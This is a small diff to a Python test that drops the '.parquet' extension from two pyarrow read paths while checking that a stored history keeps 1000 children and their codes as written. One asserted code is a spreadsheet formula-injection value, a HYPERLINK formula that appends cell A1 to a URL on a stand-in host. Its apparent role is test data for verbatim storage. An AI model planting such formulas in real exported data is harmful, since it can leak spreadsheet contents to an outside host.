@@ -124,9 +124,9 @@ def test_the_terminal_and_programs_read_letters(
 
 def test_the_history_holds_every_child_and_code_as_it_was_written(folder: Path, ran: Any) -> None:
     history = next((folder / "histories").iterdir())
-    children = pq.read_table(history / "children.parquet")["child_id"].to_pylist()
+    children = pq.read_table(history / "children")["child_id"].to_pylist()
     codes = set(
-        pq.read_table(history / "details.parquet", filters=[("field", "=", "local_code")])["code"].to_pylist()
+        pq.read_table(history / "details", filters=[("field", "=", "local_code")])["code"].to_pylist()
     )
     assert len(children) == 1000
     assert '=HYPERLINK("HTTP://EXAMPLE.INVALID/?"&A1,"OPEN")' in codes
